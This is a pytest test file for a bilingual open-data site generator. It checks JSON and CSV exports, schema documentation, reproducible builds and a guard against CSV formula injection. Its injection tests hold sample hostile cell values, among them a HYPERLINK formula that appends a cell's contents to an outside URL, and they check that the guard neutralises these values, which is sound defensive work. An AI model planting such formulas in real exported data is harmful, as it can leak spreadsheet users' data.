"""Open data: the published JSON and CSV equal the records, carry licence and build date, and
the data page (both languages) describes every field of both schemas."""

import csv
import io
import json
import re
from html import escape

import jsonschema
import pytest

from conftest import FIXTURES, ROOT, copy_project
from generator.build.generate import generate
from generator.check.validate import record_files
from generator.check.yamlsrc import load_file
from generator.core import history
from generator.core.formula_guard import FORMULA_STARTS, restore
from generator.core.project import Project
from generator.model.kinds import BESIDE_DIRS, PUBLISHED_DIRS
from generator.model.records import tidy_zh
from generator.publish import datadict
from generator.publish.opendata import csv_columns
from generator.site.config import load as load_site
from generator.site.linkcheck import Site

SCHEMAS = {name: json.loads((ROOT / "schema" / f"{name}.schema.json").read_text()) for name in ("case", "technology")}


def _record(path):
    """A record as an editor wrote it, with YAML line-folding spaces between Chinese characters
    removed (as on the pages)."""
    def tidy(value):
        if isinstance(value, dict):
            if set(value) == {"en", "zh"} and isinstance(value["zh"], str):
                return {"en": value["en"], "zh": tidy_zh(value["zh"])}
            return {k: tidy(v) for k, v in value.items()}
        return [tidy(v) for v in value] if isinstance(value, list) else value
    return tidy(load_file(path, ROOT)[0].data)


def _records(folder):
    """Every record of a folder, by id (the order of the published files)."""
    return sorted((_record(p) for p in record_files(ROOT / folder)), key=lambda r: r["id"])


@pytest.fixture(scope="module")
def site(built_site):
    return built_site / "site"


@pytest.mark.slow
@pytest.mark.parametrize("kind,schema", [("cases", "case"), ("technologies", "technology")])
def test_json_equals_the_records(site, kind, schema):
    data = json.loads((site / "data" / f"{kind}.json").read_text(encoding="utf-8"))
    records = _records(kind)
    assert data[kind] == records
    assert data["count"] == len(records) > 0
    assert data["license"]["id"] == "CC-BY-4.0" and data["license"]["url"].startswith("https://creativecommons.org/")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", data["build_date"])
    assert data["schema"].endswith(f"/schema/{schema}.schema.json")
    validator = jsonschema.Draft7Validator(json.loads((site / "schema" / f"{schema}.schema.json").read_text()))
    for record in data[kind]:
        assert list(validator.iter_errors(record)) == []


@pytest.mark.slow
def test_csv_equals_the_records(site):
    raw = (site / "data" / "cases.csv").read_bytes()
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    records = _records("cases")
    assert [r["id"] for r in rows] == [r["id"] for r in records]
    assert not [v for row in rows for v in row.values() if v[:1] in FORMULA_STARTS]   # nothing can run
    rows = [{column: restore(value) for column, value in row.items()} for row in rows]
    for row, record in zip(rows, records):
        assert row["title_en"] == record["title"]["en"] and row["title_zh"] == record["title"]["zh"]
        assert row["summary_zh"] == record["summary"]["zh"]
        assert row["sector"] == record["sector"] and row["year"] == str(record["year"])
        assert row["pollutants"].split(";") == record["pollutants"]
        assert (row["technologies"].split(";") if row["technologies"] else []) == record["technologies"]
        assert row["location"] == record.get("location", "")
        assert row["company"] == record.get("company", "")
        assert json.loads(row["sources"]) == record["sources"]
        assert (json.loads(row["figures"]) if row["figures"] else None) == record.get("figures")
        for text in ("background", "what_was_done", "results"):
            assert row[f"{text}_en"] == (record[text]["en"] if text in record else "")
    assert list(rows[0]) == [column for column, _, _ in csv_columns(SCHEMAS["case"])]


@pytest.mark.slow
def test_datapackage_describes_the_files(site):
    package = json.loads((site / "data" / "datapackage.json").read_text())
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert {r["path"] for r in package["resources"]} == {"cases.json", "cases.csv", "technologies.json",
                                                          "technology-evidence.json", "technology-evidence.csv"}
    table = next(r for r in package["resources"] if r["path"] == "cases.csv")
    header = next(csv.reader(io.StringIO((site / "data" / "cases.csv").read_text(encoding="utf-8-sig"))))
    assert [f["name"] for f in table["schema"]["fields"]] == header
    for resource in package["resources"]:
        assert (site / "data" / resource["path"]).is_file()


@pytest.mark.slow
@pytest.mark.parametrize("prefix,lang", [("", "en"), ("zh/", "zh")])
def test_data_page_describes_every_field(site, prefix, lang):
    page = site / prefix / "data" / "index.html"
    html = page.read_text(encoding="utf-8")
    for name, schema in SCHEMAS.items():
        for field in datadict.fields(schema):
            assert f"<code>{field.path}</code>" in html, field.path
            if field.description:
                assert escape(datadict.translate(field.description, lang), quote=False) in html, field.path
    # the download links lead to the published files (one copy, at the site root)
    parsed = Site(site)
    targets = {parsed.resolve(page, href)[0] for href, _ in parsed.parse(page).links
               if href.endswith((".json", ".csv")) and "://" not in href}
    assert targets == {site / "data" / f for f in ("cases.json", "cases.csv", "technologies.json",
                                                    "technology-evidence.csv", "technology-evidence.json",
                                                    "datapackage.json")} | {
        site / "schema" / f"{n}.schema.json" for n in SCHEMAS}


def test_every_schema_text_has_chinese():
    texts = set().union(*(datadict.schema_texts(s) for s in SCHEMAS.values()))
    translations = datadict.zh_texts()
    assert sorted(texts - set(translations)) == [], "add these to generator/locales/schema.zh.yaml"
    assert sorted(set(translations) - texts) == [], "no schema text uses these any more"
    for zh in translations.values():
        assert re.search("[\u4e00-\u9fff]", zh)


def test_open_data_is_the_same_bytes_for_the_same_input(tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    outputs = []
    for name in ("one", "two"):
        project = copy_project(tmp_path / name, records_from=FIXTURES / "project")
        generate(Project(project), load_site(project))
        folder = project / "content" / "en"
        outputs.append({p.relative_to(folder).as_posix(): p.read_bytes()
                        for sub in PUBLISHED_DIRS for p in sorted((folder / sub).rglob("*"))
                        if p.is_file()})
    assert outputs[0] == outputs[1] and len(outputs[0]) > 20
    data = json.loads(outputs[0]["data/cases.json"])
    assert data["build_date"] == "2023-11-14T22:13:20Z"
    assert [c["id"] for c in data["cases"]] == ["fx-case-full", "fx-case-minimal"]


def test_build_date_outside_git_is_the_newest_input_file(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    project = copy_project(tmp_path / "p", records_from=FIXTURES / "project")
    newest = max(p.stat().st_mtime for folder in history.INPUT_FOLDERS
                 for p in (project / folder).rglob("*") if p.is_file())
    assert history.build_date(project).timestamp() == int(newest)


def test_publish_writes_only_into_its_own_folders(fixture_project, monkeypatch):
    from generator.publish import files as publish
    written = {}
    real = publish.sync_tree
    monkeypatch.setattr(publish, "sync_tree", lambda root, files, owned, changes: written.setdefault(
        root.parent.name, set()).update(path.split("/", 1)[0] for path in files) or real(root, files, owned, changes))
    generate(Project(fixture_project), load_site(fixture_project))
    # content/<lang>/: the published folders; .generated/site-files/<lang>/: the short links
    assert written == {"content": set(PUBLISHED_DIRS), "site-files": set(BESIDE_DIRS)}


# --- Formula injection (OWASP CSV injection): text cells that could run as formulas ----------

FORMULA_TEXTS = ['=HYPERLINK("https://example.org/x?"&A1,"click")', "+1+1", "-5 % energy", "@SUM(A1)",
                 "\t=1+1", "\r=1+1", "'=already quoted", "''-two quotes"]
HARMLESS_TEXTS = ["'s-Hertogenbosch", "plain text", "", 'a "quoted" word, with a comma', "5 % less", "＝1"]


def test_guard_prefixes_only_what_could_run_and_restore_undoes_exactly_that():
    from generator.core.formula_guard import guard
    for text in FORMULA_TEXTS:
        assert guard(text) == "'" + text, repr(text)
        assert guard(text)[0] not in FORMULA_STARTS
    for text in HARMLESS_TEXTS:
        assert guard(text) == text, repr(text)
    for text in FORMULA_TEXTS + HARMLESS_TEXTS:
        assert restore(guard(text)) == text, repr(text)
    assert restore("'s-Hertogenbosch") == "'s-Hertogenbosch"      # a quote the guard did not add stays


def _synthetic_case(**changes):
    record = {"id": "fx-formula", "title": {"en": "=1+1", "zh": "@測試"}, "summary": {"en": "-5 % energy",
              "zh": "測試。"}, "sector": "other", "pollutants": ["air-voc"], "technologies": [],
              "initiative": "pilot", "year": 2021, "company": "'=quoted", "sources": [{"id": "s", "title": "=x"}]}
    record.update(changes)
    return record


def test_cases_csv_prefixes_formula_text_quotes_every_text_cell_and_leaves_numbers_alone():
    from generator.publish.opendata import cases_csv
    raw = cases_csv([_synthetic_case(), _synthetic_case(id="fx-negative", year=-5)], SCHEMAS["case"])
    lines = raw.lstrip("\ufeff").split("\r\n")
    assert lines[0].startswith('"id","former_ids","title_en","title_zh",')      # the header is text too
    rows = list(csv.DictReader(io.StringIO(raw.lstrip("\ufeff"), newline="")))
    assert rows[0]["title_en"] == "'=1+1" and rows[0]["title_zh"] == "'@測試"
    assert rows[0]["summary_en"] == "'-5 % energy" and rows[0]["summary_zh"] == "測試。"
    assert rows[0]["company"] == "''=quoted"
    assert rows[0]["sources"] == '[{"id":"s","title":"=x"}]'      # JSON text begins with [ or {: unchanged
    assert {restore(rows[0][c]) for c in ("title_en", "summary_en", "company")} == {"=1+1", "-5 % energy", "'=quoted"}
    # every text cell is in double quotes; the numeric year column is a bare number, even when negative
    assert lines[1].startswith('"fx-formula","","\'=1+1","\'@測試","\'-5 % energy","測試。","other","air-voc","",'
                               '"pilot",2021,')
    assert ',"pilot",-5,' in lines[2] and rows[1]["year"] == "-5"


def test_published_csv_of_a_record_with_formula_text(tmp_path, monkeypatch):
    """End to end: a record whose texts begin with formula characters, built into data/cases.csv."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    project = copy_project(tmp_path / "p", records_from=FIXTURES / "project")
    record = project / "cases" / "fx-case-minimal.yaml"
    text = record.read_text(encoding="utf-8")
    text = text.replace("title: {en: Fixture minimal case,",
                        'title: {en: "=HYPERLINK(\\"https://example.org/x\\",\\"click\\")",')
    text = text.replace("summary: {en: Only the required fields.,", 'summary: {en: "-5 % energy, +1",')
    record.write_text(text.replace("year: 2012\n", 'year: 2012\ncompany: "@attacker"\n'), encoding="utf-8")
    generate(Project(project), load_site(project))
    raw = (project / "content/en/data/cases.csv").read_text(encoding="utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(raw, newline="")) if r["id"] == "fx-case-minimal")
    assert row["title_en"] == "'=HYPERLINK(\"https://example.org/x\",\"click\")"
    assert row["summary_en"] == "'-5 % energy, +1" and row["company"] == "'@attacker"
    assert row["year"] == "2012" and ',"not-stated",2012,' in raw
    assert '"\'=HYPERLINK(""https://example.org/x"",""click"")"' in raw     # quoted, inner quotes doubled
    data = json.loads((project / "content/en/data/cases.json").read_text(encoding="utf-8"))
    case = next(c for c in data["cases"] if c["id"] == "fx-case-minimal")
    assert case["title"]["en"] == "=HYPERLINK(\"https://example.org/x\",\"click\")"    # JSON: as it is


@pytest.mark.parametrize("lang,words", [("en", ["OWASP", "single quote (')", "never changed"]),
                                        ("zh", ["OWASP", "單引號（'）", "從不改動"])])
def test_data_page_says_how_formula_cells_are_written(fixture_project, lang, words):
    generate(Project(fixture_project), load_site(fixture_project))
    page = (fixture_project / "content" / lang / "data" / "index.md").read_text(encoding="utf-8")
    section = page[page.index("{ #csv }"):]
    for word in words:
        assert word in section, (lang, word)


@pytest.mark.parametrize("keeping", [False, True])
def test_open_data_reads_as_json_printed_whole_and_follows_an_edit(fixture_project, keeping, monkeypatch):
    """Each record's lines are made once (and kept by the dev server): the files still read as
    json.dumps prints them whole, and an edited record shows in them at once."""
    from generator.check.validate import validate_project
    from generator.core import memo
    from generator.publish.opendata import cases_csv, open_data_files, record_data
    monkeypatch.setattr(memo, "_enabled", [keeping])
    project = Project(fixture_project)
    site, built = load_site(fixture_project), history.build_date(fixture_project)
    for round_ in range(2):
        corpus = validate_project(project).corpus
        files = open_data_files(project, corpus, site, built)
        for name in ("data/cases.json", "data/technologies.json"):
            text = files[name]
            assert text == json.dumps(json.loads(text), allow_nan=False, ensure_ascii=False, indent=2) + "\n", name
        records = record_data(project, corpus, "cases")
        assert files["data/cases.csv"] == cases_csv(records, json.loads((fixture_project / "schema/case.schema.json").read_text()))
        titles = {r["id"]: r["title"]["en"] for r in json.loads(files["data/cases.json"])["cases"]}
        if round_ == 0:
            record = fixture_project / "cases" / "fx-case-minimal.yaml"
            record.write_text(record.read_text().replace(titles["fx-case-minimal"], "An edited title", 1))
    assert titles["fx-case-minimal"] == "An edited title"
    assert "An edited title" in files["data/cases.csv"]
